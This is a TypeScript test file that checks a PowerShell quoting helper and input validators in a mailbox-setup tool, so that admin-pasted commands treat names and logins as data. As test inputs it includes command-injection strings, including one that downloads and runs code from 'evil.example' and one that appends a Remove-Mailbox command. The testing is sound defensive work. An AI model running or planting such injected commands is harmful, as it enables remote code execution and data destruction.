import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import type { Db } from "@/db/client";
import { type Mailbox, type MailboxTest, mailboxes } from "@/db/schema";
import { powerShellQuoted } from "@/lib/engine/powershell";
import { createMailbox } from "@/lib/mailbox/save";
import { saveMailboxSchema } from "@/lib/mailbox/schema";
import { setupChecklist } from "@/lib/service/checklist";
import { entraSetupStartSchema } from "@/lib/service/entra-setups/schema";
import { createTenantSchema } from "@/lib/tenants/schema";
import { freshDb, seedWorld, type World } from "../support/db";
import { mailboxForm, mailboxInput } from "../support/mailbox";

// PowerShell's single-quoted string as its tokenizer reads it: any of the four single-quote
// characters ends it, unless another one follows, which stands for itself.
const QUOTES = new Set(["'", "\u2018", "\u2019", "\u201A", "\u201B"]);
function readSingleQuoted(text: string): { value: string; end: number } {
  if (!QUOTES.has(text[0]!)) throw new Error("not a single-quoted string");
  let value = "";
  for (let i = 1; i < text.length; i++) {
    const c = text[i]!;
    if (QUOTES.has(c)) {
      if (!QUOTES.has(text[i + 1] ?? "")) return { value, end: i + 1 };
      i += 1;
      value += text[i];
      continue;
    }
    value += c;
  }
  throw new Error("the string never ends");
}

// A small deterministic generator, so that a failure can be replayed.
function random(seed: number) {
  let state = seed;
  return () => {
    state = (state * 1103515245 + 12345) % 2 ** 31;
    return state / 2 ** 31;
  };
}
const ALPHABET = [..."ab@.-_ $();`\"'\u2018\u2019\u201A\u201B\u201C\u201D|&<>{}#\n\t\u0000\u00A0é🙂"];

describe("PowerShell the admin pastes", () => {
  it("keeps every value one single-quoted argument that ends where it should, over random strings", () => {
    const next = random(20261202);
    for (let n = 0; n < 5000; n++) {
      const length = Math.floor(next() * 24);
      const value = Array.from({ length }, () => ALPHABET[Math.floor(next() * ALPHABET.length)]).join("");
      const quoted = powerShellQuoted(value);
      const read = readSingleQuoted(`${quoted} -NextParameter`);
      expect(read.end, JSON.stringify(value)).toBe(quoted.length);
      expect(read.value).toBe(value);
    }
  });

  it("quotes the payloads an attacker would try", () => {
    for (const value of [
      "inv@contoso.com;iex(irm('https://evil.example/p'))",
      `x"'…$(Get-Process)`,
      "a\u2019; Remove-Mailbox -Identity boss@contoso.com",
      "$env:USERPROFILE`n",
    ]) {
      const quoted = powerShellQuoted(value);
      expect(readSingleQuoted(quoted)).toEqual({ value, end: quoted.length });
    }
  });

  describe("in the setup checklist", () => {
    let db: Db;
    let world: World;
    let row: Mailbox;
    beforeAll(async () => {
      db = await freshDb();
      world = await seedWorld(db);
      const name = `x"'…$(Get-Process)`;
      const mailbox = await createMailbox(db, world.root, mailboxInput(world.tenantA.id, { name }));
      row = (await db.select().from(mailboxes).where(eq(mailboxes.id, mailbox.id)))[0]!;
    });

    it("puts the mailbox's name, Login and the app's IDs into single quotes on every line", () => {
      const items = setupChecklist({ ...row, signInMethod: "app" }, undefined, {
        servicePrincipalId: "6a1b-'sp",
      });
      const lines = items.flatMap((item) => (item.command ? item.command.split("\n") : []));
      expect(lines).toContain(
        `New-ServicePrincipal -AppId '${row.azureClientId}' -ObjectId '6a1b-''sp' -DisplayName 'Navigator Mail x"''…$(Get-Process)'`,
      );
      expect(lines).toContain(
        `Add-MailboxPermission -Identity '${row.login}' -User '6a1b-''sp' -AccessRights FullAccess`,
      );
      expect(lines).toContain(`Set-CASMailbox -Identity '${row.login}' -SmtpClientAuthenticationDisabled $false`);
      expect(lines).toContain(`Set-CASMailbox -Identity '${row.login}' -ImapEnabled $true`);
    });

    it("for a Graph mailbox: Graph's permissions and consent address, the RBAC for Applications lines quoted twice over", () => {
      const login = "o'brien@contoso.com";
      const graph = { ...row, login, transport: "graph" as const };
      const delegated = setupChecklist(graph, undefined);
      expect(delegated.map((i) => i.key)).toContain("graph-permissions");
      expect(delegated.map((i) => i.key)).not.toContain("exchange-smtp-auth");
      const consent = delegated.find((item) => item.command?.includes("adminconsent"))!.command!;
      expect(decodeURIComponent(consent.split("scope=")[1]!)).toBe(
        "https://graph.microsoft.com/Mail.Send https://graph.microsoft.com/Mail.ReadWrite",
      );
      const appOnly = setupChecklist({ ...graph, signInMethod: "app" }, undefined, { servicePrincipalId: "sp-1" });
      expect(decodeURIComponent(appOnly.find((i) => i.command?.includes("adminconsent"))!.command!)).toContain(
        "scope=https://graph.microsoft.com/.default",
      );
      const lines = appOnly.find((i) => i.key === "graph-app-scope")!.command!.split("\n");
      // The OPATH filter's own quotes are doubled inside the value, then PowerShell's: the Login stays data.
      expect(lines).toContain(
        "New-ManagementScope -Name 'Navigator Mail o''brien@contoso.com' -RecipientRestrictionFilter 'PrimarySmtpAddress -eq ''o''''brien@contoso.com'''",
      );
      expect(lines).toContain(
        `New-ManagementRoleAssignment -App '${row.azureClientId}' -Role 'Application Mail.ReadWrite' -CustomResourceScope 'Navigator Mail o''brien@contoso.com'`,
      );
    });

    it("for a shared Mailbox and a Send as address: FullAccess and Send As, each ticked or crossed by the last test", () => {
      const shared = {
        ...row,
        login: "svc@contoso.com",
        mailboxAddress: "o'brien@contoso.com",
        sendAs: "help@contoso.com",
      };
      const items = setupChecklist(shared, undefined);
      const item = (key: string) => items.find((i) => i.key === key)!;
      expect(item("mailbox-access")).toMatchObject({
        status: "unknown",
        value: "o'brien@contoso.com",
        command:
          "Add-MailboxPermission -Identity 'o''brien@contoso.com' -User 'svc@contoso.com' -AccessRights FullAccess -InheritanceType All",
      });
      expect(item("send-as").command!.split("\n")[0]).toBe(
        "Add-RecipientPermission -Identity 'help@contoso.com' -Trustee 'svc@contoso.com' -AccessRights SendAs -Confirm:$false",
      );
      // IMAP is switched on for the mailbox read, not for the Login.
      expect(item("exchange-imap").command).toBe("Set-CASMailbox -Identity 'o''brien@contoso.com' -ImapEnabled $true");
      const at = new Date();
      const test = (steps: MailboxTest["steps"]) =>
        ({ id: 1, mailboxId: row.id, steps, startedAt: at, finishedAt: at }) as unknown as MailboxTest;
      const crossed = setupChecklist(
        shared,
        test([
          { name: "imap", status: "passed", durationMs: 1, summary: "ok" },
          {
            name: "smtp",
            status: "failed",
            durationMs: 1,
            summary: "refused",
            diagnosis: { code: "SEND_AS_DENIED", cause: "no Send As", fix: "grant", setupStep: "send-as" },
          },
        ]),
      );
      expect(crossed.find((i) => i.key === "mailbox-access")!.status).toBe("passed");
      expect(crossed.find((i) => i.key === "send-as")!.status).toBe("failed");
      // The Login's own mailbox needs neither.
      const own = setupChecklist(row, undefined);
      expect(own.find((i) => i.key === "mailbox-access")!.status).toBe("not-needed");
      expect(own.find((i) => i.key === "send-as")!.status).toBe("not-needed");
      // A delegated Graph token reaches a shared mailbox with the .Shared scopes only.
      const graph = setupChecklist({ ...shared, transport: "graph" }, undefined);
      expect(graph.find((i) => i.key === "graph-permissions")!.value).toBe("Mail.Send.Shared, Mail.ReadWrite.Shared");
    });

    it("encodes the IDs in the admin-consent address", () => {
      const items = setupChecklist({ ...row, azureTenantId: "contoso.com/../x?y" }, undefined);
      const consent = items.find((item) => item.command?.includes("adminconsent"))!;
      expect(consent.command).toContain("/contoso.com%2F..%2Fx%3Fy/adminconsent?client_id=");
    });
  });

  it("refuses a Login that is not a plain sign-in name", () => {
    for (const login of [
      "inv@contoso.com;iex(irm('https://evil.example/p'))",
      "inv'@contoso.com",
      'inv"@contoso.com',
      "inv@contoso.com\u0007",
      "inv @contoso.com",
      "inv@@contoso.com",
      "inv\u2019x@contoso.com",
    ]) {
      const parsed = saveMailboxSchema.safeParse({ tenantId: "1", ...mailboxForm({ login }) });
      expect(parsed.success, login).toBe(false);
      expect(parsed.error?.flatten().fieldErrors.login?.[0]).toContain("no spaces, quotes or semicolons");
    }
    expect(
      saveMailboxSchema.safeParse({ tenantId: "1", ...mailboxForm({ login: "in.v+x@contoso.com" }) }).success,
    ).toBe(true);
  });

  it("refuses control characters in the names that reach a command line", () => {
    const name = "Invoices\u001b[2J";
    expect(saveMailboxSchema.safeParse({ tenantId: "1", ...mailboxForm({ name }) }).success).toBe(false);
    expect(createTenantSchema.safeParse({ name, slug: "acme" }).success).toBe(false);
    expect(entraSetupStartSchema.safeParse({ directory: "contoso.com", appName: "App\u0085" }).success).toBe(false);
    expect(entraSetupStartSchema.safeParse({ directory: "contoso.com", appName: `x"'…$(Get-Process)` }).success).toBe(
      true,
    );
  });
});
